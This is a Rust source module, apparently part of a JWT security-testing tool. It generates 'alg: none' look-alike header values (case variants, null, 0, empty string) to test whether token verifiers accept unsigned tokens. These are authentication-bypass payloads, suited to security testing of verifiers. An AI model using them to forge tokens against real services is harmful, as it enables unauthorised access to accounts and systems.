//! "none" algorithm confusion
//!
//! Verifiers that compare `alg` case-insensitively, or coerce it from other JSON
//! types, may accept an unsigned token for one of these candidates.

use serde_json::{json, Value};

use super::{Mutation, MutationStrategy};
use crate::jwt::DecodedToken;

/// Replaces the header `alg` with each "none" look-alike
#[derive(Debug, Clone, Copy, Default)]
pub struct NoneAlgorithmStrategy;

impl NoneAlgorithmStrategy {
    /// Candidate `alg` values, in output order
    pub fn candidates() -> [Value; 6] {
        [
            json!("none"),
            json!("nOnE"),
            json!("NONE"),
            Value::Null,
            json!(0),
            json!(""),
        ]
    }
}

/// Label for a candidate: strings as-is, everything else in JSON form
fn label(candidate: &Value) -> String {
    match candidate {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

impl MutationStrategy for NoneAlgorithmStrategy {
    fn name(&self) -> &str {
        "none_algorithm"
    }

    fn apply(&self, decoded: &DecodedToken) -> Vec<Mutation> {
        Self::candidates()
            .into_iter()
            .map(|candidate| {
                let label = label(&candidate);
                Mutation::new(label, decoded.with_header_field("alg", candidate))
            })
            .collect()
    }
}
